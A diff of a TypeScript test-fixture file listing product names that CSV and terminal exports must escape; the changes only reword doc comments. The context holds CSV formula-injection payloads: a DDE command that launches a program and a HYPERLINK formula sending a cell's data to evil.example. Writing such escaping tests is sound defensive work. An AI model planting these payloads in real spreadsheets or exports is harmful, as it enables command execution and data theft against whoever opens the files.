@@ -1,10 +1,10 @@
 import type { Entry } from './entry.ts';
 
-/** How a product's name is given out. */
+/** Expected representations of a product name. */
 export interface ExportOutcome {
-  /** The cell that a spreadsheet reads from CSV. */
+  /** The parsed CSV cell. */
   csv: string;
-  /** What a terminal shows. */
+  /** The text on a terminal. */
   table: string;
 }
 
@@ -24,7 +24,7 @@ const invisible = (name: string, input: string, table: string): Entry<string, Ex
   expected: { csv: input, table },
 });
 
-/** Names of products, as orders may have them, on their way out: reports, stock, their CSV. */
+/** Valid product names that reports and stock lists must escape, as CSV or on a terminal. */
 export const exported: Entry<string, ExportOutcome>[] = [
   formula('a command', "=cmd|' /C calc'!A0"),
   formula('a link', '=HYPERLINK("http://evil.example?"&A1,"Total")'),
